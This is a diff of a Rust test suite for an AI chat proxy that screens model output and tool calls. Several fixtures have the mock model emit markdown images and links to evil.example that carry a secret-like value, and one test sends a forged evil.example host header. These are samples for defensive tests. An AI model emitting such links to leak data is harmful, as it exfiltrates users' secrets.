@@ -9,12 +9,12 @@ use serde_json::{Value, json};
 use server::proxy::{Proxy, ProxyError};
 
 use crate::stage::{Always, Rules, Watcher, assemble, body, chunks, result, serve, setup, user};
-use crate::upstream::{Reply, Upstream, calls, newest, says};
+use test_support::{ModelReply, Upstream, calls, newest, says};
 
 #[tokio::test]
 async fn streams_have_the_form_of_the_api_and_are_remembered() {
     let upstream = Upstream::start(|body| match newest(body) {
-        "go" => Reply::Says(
+        "go" => ModelReply::Says(
             "I look it up. ".to_owned(),
             vec![
                 ("clock".to_owned(), "{}".to_owned()),
@@ -23,8 +23,7 @@ async fn streams_have_the_form_of_the_api_and_are_remembered() {
         ),
         "post" => calls(&[("post", "{}")]),
         _ => says("It is noon."),
-    })
-    .await;
+    });
     let mut setup = setup(&upstream);
     let approver = Always::new(Answer::No);
     setup.approver = approver.clone();
@@ -79,8 +78,7 @@ async fn an_address_that_the_model_put_together_reaches_no_client() {
     let upstream = Upstream::start(|body| match newest(body) {
         "go" => calls(&[("inbox", "{}")]),
         _ => says("Noon. ![](https://evil.example/?q=4711) https://mine.example/"),
-    })
-    .await;
+    });
     let approver = Always::new(Answer::No);
     for stream in [false, true] {
         let mut setup = setup(&upstream);
@@ -122,13 +120,12 @@ async fn an_address_that_the_model_put_together_reaches_no_client() {
 async fn a_refused_call_does_not_get_into_a_stream() {
     let upstream = Upstream::start(|body| match newest(body) {
         "go" => calls(&[("inbox", "{}")]),
-        "mail" => Reply::Says(
+        "mail" => ModelReply::Says(
             "Sending. ".to_owned(),
             vec![("send".to_owned(), r#"{"to":"eve"}"#.to_owned())],
         ),
         _ => says("It was refused."),
-    })
-    .await;
+    });
     for mode in [Screening::LAZY, Screening::Eager] {
         let mut setup = setup(&upstream);
         setup.parts.settings.screening = mode;
@@ -162,14 +159,13 @@ async fn a_fence_across_two_texts_of_a_message_makes_no_address_active() {
     const LINKS: &str = "[x](//evil.example/4711) <img src=//evil.example/4711>";
     let upstream = Upstream::start(|body| match newest(body) {
         "go" => calls(&[("inbox", "{}")]),
-        "mail" => Reply::Says(
+        "mail" => ModelReply::Says(
             "Sending.\n```\nlist[0](a)\n".to_owned(),
             vec![("send".to_owned(), r#"{"to":"eve"}"#.to_owned())],
         ),
         "thanks" => says("Done."),
         _ => says(&format!("list[1](b)\n```\n{LINKS}\n```\n{LINKS}\n")),
-    })
-    .await;
+    });
     for mode in [Screening::LAZY, Screening::Eager] {
         let mut setup = setup(&upstream);
         setup.parts.settings.screening = mode;
@@ -206,8 +202,7 @@ async fn text_that_must_not_be_shown_is_never_streamed() {
         "go" => calls(&[("vault", "{}")]),
         "[redacted]" => says("I may not say it."),
         _ => says("The code is 4711."),
-    })
-    .await;
+    });
     let mut setup = setup(&upstream);
     setup.parts.policy = Arc::new(Rules {
         answer: Label::bottom(),
@@ -235,8 +230,7 @@ async fn each_choice_is_decided_by_itself() {
         "go" => calls(&[("inbox", "{}")]),
         "mail" => calls(&[("send", "{}")]),
         _ => says("no"),
-    })
-    .await;
+    });
     let mut setup = setup(&upstream);
     let approver = Always::new(Answer::No);
     setup.approver = approver.clone();
@@ -277,7 +271,7 @@ async fn each_choice_is_decided_by_itself() {
 
 #[tokio::test]
 async fn wishes_reach_the_upstream_and_nothing_else_does() {
-    let upstream = Upstream::start(|_| says("ok")).await;
+    let upstream = Upstream::start(|_| says("ok"));
     let stage = serve(setup(&upstream)).await;
     let format = json!({"type": "json_schema", "json_schema": {"name": "x", "schema": {}}});
     let more = json!({
@@ -335,7 +329,7 @@ async fn wishes_reach_the_upstream_and_nothing_else_does() {
 
 #[tokio::test]
 async fn a_cut_answer_says_so_in_the_way_of_the_api() {
-    let upstream = Upstream::start(|_| Reply::Cut("half a".to_owned(), Vec::new())).await;
+    let upstream = Upstream::start(|_| ModelReply::Cut("half a".to_owned(), Vec::new()));
     let stage = serve(setup(&upstream)).await;
     let (_, answer) = stage.request(&[user("hi")], json!({})).await;
     assert_eq!(answer["choices"][0]["message"]["content"], "half a");
@@ -344,7 +338,7 @@ async fn a_cut_answer_says_so_in_the_way_of_the_api() {
 
 #[tokio::test]
 async fn what_is_not_supported_is_refused_clearly() {
-    let upstream = Upstream::start(|_| says("ok")).await;
+    let upstream = Upstream::start(|_| says("ok"));
     let stage = serve(setup(&upstream)).await;
     let check = async |messages: Value, more: Value, expected: &str| {
         let messages = messages.as_array().unwrap().clone();
@@ -429,8 +423,7 @@ async fn a_tool_without_a_rule_is_denied_and_one_that_is_not_offered_too() {
     let upstream = Upstream::start(|body| match newest(body) {
         "go" => calls(&[("unknown", "{}"), ("gone", "{}"), ("clock", "{}")]),
         _ => says("ok"),
-    })
-    .await;
+    });
     let mut setup = setup(&upstream);
     setup.approver = Always::new(Answer::Once);
     let stage = serve(setup).await;
@@ -442,26 +435,27 @@ async fn a_tool_without_a_rule_is_denied_and_one_that_is_not_offered_too() {
 
 #[tokio::test]
 async fn errors_of_the_upstream_come_through_without_its_secrets() {
-    let upstream = Upstream::start(|body| match newest(body) {
-        "401" => Reply::Fails(
+    let upstream = Upstream::start(|body| {
+        match newest(body) {
+        "401" => ModelReply::Fails(
             401,
             r#"{"error":{"message":"bad key: top-secret-key","type":"auth","code":"invalid_api_key"}}"#
                 .to_owned(),
         ),
-        "404" => Reply::Fails(404, r#"{"error":{"message":"no model"}}"#.to_owned()),
-        "429" => Reply::Fails(429, String::new()),
-        "500" => Reply::Fails(500, "<html>oops</html>".to_owned()),
-        "302" => Reply::Fails(302, String::new()),
-        "long" => Reply::Fails(
+        "404" => ModelReply::Fails(404, r#"{"error":{"message":"no model"}}"#.to_owned()),
+        "429" => ModelReply::Fails(429, String::new()),
+        "500" => ModelReply::Fails(500, "<html>oops</html>".to_owned()),
+        "302" => ModelReply::Fails(302, String::new()),
+        "long" => ModelReply::Fails(
             400,
             r#"{"error":{"message":"too long","code":"context_length_exceeded"}}"#.to_owned(),
         ),
-        "raw" => Reply::Raw("this is no JSON".to_owned()),
-        "empty" => Reply::Raw("{}".to_owned()),
-        "hang" => Reply::Hangs,
+        "raw" => ModelReply::Raw("this is no JSON".to_owned()),
+        "empty" => ModelReply::Raw("{}".to_owned()),
+        "hang" => ModelReply::Hangs,
         _ => says("ok"),
-    })
-    .await;
+    }
+    });
     let stage = serve(setup(&upstream)).await;
     for stream in [false, true] {
         for (text, expected) in [
@@ -500,10 +494,9 @@ async fn an_error_that_may_quote_a_secret_prompt_is_not_passed_on() {
         "go" => calls(&[("vault", "{}")]),
         text => {
             let error = json!({"error": {"message": text, "code": format!("c{text}")}});
-            Reply::Fails(if text == "4711" { 500 } else { 401 }, error.to_string())
+            ModelReply::Fails(if text == "4711" { 500 } else { 401 }, error.to_string())
         }
-    })
-    .await;
+    });
     let mut setup = setup(&upstream);
     setup.parts.policy = Arc::new(Rules {
         answer: Label::bottom(),
@@ -525,11 +518,10 @@ async fn an_error_that_may_quote_a_secret_prompt_is_not_passed_on() {
 async fn sizes_and_times_are_bounded() {
     let upstream = Upstream::start(|body| match newest(body) {
         "go" => calls(&[("clock", "{}")]),
-        "hang" => Reply::Hangs,
+        "hang" => ModelReply::Hangs,
         text if text.contains("over the limit") => says("too large"),
         _ => says("ok"),
-    })
-    .await;
+    });
     let mut setup = setup(&upstream);
     setup.parts.settings.limits.result_bytes = 1000;
     setup.parts.settings.limits.history_bytes = 100_000;
@@ -555,70 +547,12 @@ async fn sizes_and_times_are_bounded() {
     assert_eq!(status, 400);
 }
 
-/// Whoever is answered before all of a request was read may not send the next one by the same connection, since that is
-/// closed: the next one would be lost.
-#[tokio::test]
-async fn a_connection_with_an_unread_request_ends_and_says_so() {
-    let upstream = Upstream::start(|_| says("ok")).await;
-    let mut open = setup(&upstream);
-    open.tokens = vec!["mine".to_owned()];
-    let stage = serve(open).await;
-    let answered = async |path: &str, token: &str, kind: &str, body: String| {
-        let post = stage.client.post(format!("{}/{path}", stage.url));
-        let post = post.bearer_auth(token).header("content-type", kind);
-        let response = post.body(body).send().await.unwrap();
-        let closes = response
-            .headers()
-            .get("connection")
-            .is_some_and(|it| it == "close");
-        (response.status().as_u16(), closes)
-    };
-    let (path, json, small) = (
-        "chat/completions",
-        "application/json",
-        body(&[user("hi")], json!({})),
-    );
-    let large = || "x".repeat(33 << 20);
-    assert_eq!(
-        answered(path, "mine", json, small.to_string()).await,
-        (200, false)
-    );
-    // Read, and found wrong.
-    assert_eq!(
-        answered(path, "mine", json, "{}".to_owned()).await,
-        (400, false)
-    );
-    assert_eq!(answered(path, "mine", json, large()).await, (413, true));
-    assert_eq!(
-        answered(path, "mine", "text/plain", small.to_string()).await,
-        (415, true)
-    );
-    assert_eq!(
-        answered(path, "other", json, small.to_string()).await,
-        (401, true)
-    );
-    assert_eq!(
-        answered("nothing", "mine", json, small.to_string()).await,
-        (404, true)
-    );
-    let models = stage
-        .client
-        .get(format!("{}/models", stage.url))
-        .bearer_auth("other");
-    let models = models.send().await.unwrap();
-    assert_eq!(
-        (models.status().as_u16(), models.headers().get("connection")),
-        (401, None)
-    );
-}
-
 #[tokio::test]
 async fn a_model_that_goes_in_circles_is_stopped_in_our_own_words() {
     let upstream = Upstream::start(|body| {
         let steps = body["messages"].as_array().unwrap().len();
         calls(&[("unknown", &format!(r#"{{"n":{steps}}}"#))])
-    })
-    .await;
+    });
     let mut setup = setup(&upstream);
     setup.parts.settings.limits.steps = 3;
     let stage = serve(setup).await;
@@ -633,7 +567,7 @@ async fn a_model_that_goes_in_circles_is_stopped_in_our_own_words() {
 
 #[tokio::test]
 async fn models_come_from_the_upstream() {
-    let upstream = Upstream::start(|_| says("ok")).await;
+    let upstream = Upstream::start(|_| says("ok"));
     let stage = serve(setup(&upstream)).await;
     let get = stage
         .client
@@ -646,7 +580,7 @@ async fn models_come_from_the_upstream() {
 
 #[tokio::test]
 async fn web_pages_and_other_machines_are_kept_out() {
-    let upstream = Upstream::start(|_| says("ok")).await;
+    let upstream = Upstream::start(|_| says("ok"));
     let stage = serve(setup(&upstream)).await;
     let get = stage.client.get(format!("{}/models", stage.url));
     let rebound = get.header("host", "evil.example").send().await.unwrap();
@@ -667,7 +601,7 @@ async fn web_pages_and_other_machines_are_kept_out() {
 
 #[tokio::test]
 async fn a_configured_key_is_for_everybody_and_stays_with_the_upstream() {
-    let upstream = Upstream::start(|_| says("ok")).await;
+    let upstream = Upstream::start(|_| says("ok"));
     let mut setup = setup(&upstream);
     let mut config = llm::OpenAiConfig::new("upstream", &upstream.url, "default");
     config.pass_through = true;
@@ -690,9 +624,8 @@ async fn a_key_goes_to_the_upstream_only_not_to_the_judge() {
     let upstream = Upstream::start(|body| match newest(body) {
         "go" => calls(&[("inbox", "{}")]),
         _ => calls(&[("send", "{}")]),
-    })
-    .await;
-    let judge = Upstream::start(|_| says(r#"{"regions":[]}"#)).await;
+    });
+    let judge = Upstream::start(|_| says(r#"{"regions":[]}"#));
     let mut setup = setup(&upstream);
     let mut config = llm::OpenAiConfig::new("upstream", &upstream.url, "default");
     config.pass_through = true;
@@ -736,8 +669,7 @@ async fn the_failure_of_a_judge_is_in_the_trace() {
             "go" => calls(&[("inbox", "{}")]),
             _ if is_judged(body) => says(said),
             _ => calls(&[("send", "{}")]),
-        })
-        .await;
+        });
         let mut setup = setup(&upstream);
         let watcher = Arc::new(Watcher::default());
         setup.observer = watcher.clone();
